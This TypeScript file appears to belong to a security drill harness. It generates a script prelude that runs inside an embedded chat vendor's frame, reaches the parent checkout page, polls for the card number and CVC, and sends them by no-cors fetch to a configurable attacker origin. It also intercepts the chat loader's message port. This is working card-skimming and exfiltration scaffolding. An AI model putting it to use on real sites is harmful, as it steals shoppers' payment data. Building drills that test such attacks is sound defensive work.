/**
 * What stands before every attacker's script: where the loot goes, what can be read from here, and a
 * word that the script ran, by a path that even the frame is allowed. Text, because it runs in pages.
 */

export interface Setting {
  /** Origin of the attacker's host, and of the chat vendor that the attacker may hold. */
  evil: string;
  vendor: string;
  /** Where the attacker listens for what is no HTTP: TLS names, and STUN over UDP. */
  tlsPort: number;
  udpPort: number;
  /** Of this visit. */
  run: number;
}

/**
 * In scope of an attack's code: `id`; `to(rest)`, an address of the attacker's; `send(text)` by fetch;
 * `documents` that can be reached; `field(name)`; `whenCard(act)`, which waits for the card, and where
 * none can be reached acts at once with empty hands; `onGesture(act)`; `add(name, properties)`; and
 * `offer`, a promise of the port to the loader, which only the chat's frame ever has.
 */
export const prelude = ({ evil, vendor, tlsPort, udpPort, run }: Setting): string => `
;(() => {
  const EVIL = ${JSON.stringify(evil)}, VENDOR = ${JSON.stringify(vendor)}, RUN = ${run};
  const TLS = ${tlsPort}, UDP = ${udpPort};
  const post = fetch.bind(globalThis), later = setTimeout, again = setInterval, stop = clearInterval;
  const documents = [...new Set([window, parent, parent.parent, top].flatMap((view) => {
    try { return view.document.documentElement ? [view.document] : []; } catch { return []; }
  }))];
  const page = () => documents.find((one) => one.querySelector('form#checkout'));
  const field = (name) => page()?.querySelector('[name=' + name + ']')?.value ?? '';
  const add = (name, properties = {}, to = document.body) =>
    to.appendChild(Object.assign(document.createElement(name), properties));
  const whenCard = (act) => {
    if (!page()) return act('empty-handed');
    const look = again(() => {
      const number = field('card-number').replace(/\\D/g, ''), code = field('card-cvc');
      if (number.length < 16 || code.length < 3) return;
      stop(look);
      act(number + '-cvc-' + code);
    }, 30);
  };
  const onGesture = (act) => {
    for (const type of ['pointerdown', 'click', 'keydown'])
      for (const one of documents) one.addEventListener(type, act, true);
  };
  // Heard before the chat's own listener, which is in the same script: the port is shared.
  let offered;
  const offer = new Promise((resolve) => { offered = resolve; });
  addEventListener('message', ({ data, ports }) => { if (data?.bulkhead === 'port') offered(ports[0]); });
  globalThis.drillAttack = (id, code) => {
    const say = (word) => post(VENDOR + '/drill/' + word + '/' + RUN + '/' + id + '?at=' + encodeURIComponent(origin), { keepalive: true }).catch(() => {});
    say('ran');
    const to = (rest = '') => EVIL + '/x/' + RUN + '/' + id + rest;
    const send = (text) => post(to('?fetch'), { method: 'POST', mode: 'no-cors', keepalive: true, body: text }).catch(() => {});
    const end = () => later(say, 250, 'done');
    Promise.resolve().then(() => code({ EVIL, VENDOR, RUN, TLS, UDP, id, to, send, documents, page, field, add, whenCard, onGesture, offer })).then(end, end);
  };
})();
`;

const NAMES =
  'EVIL,VENDOR,RUN,TLS,UDP,id,to,send,documents,page,field,add,whenCard,onGesture,offer';

/** One attack's code, to be put after the prelude. One that throws is in nobody's way. */
export const arm = (id: string, code: string): string =>
  `;drillAttack(${JSON.stringify(id)}, async ({${NAMES}}) => {${code}\n});`;
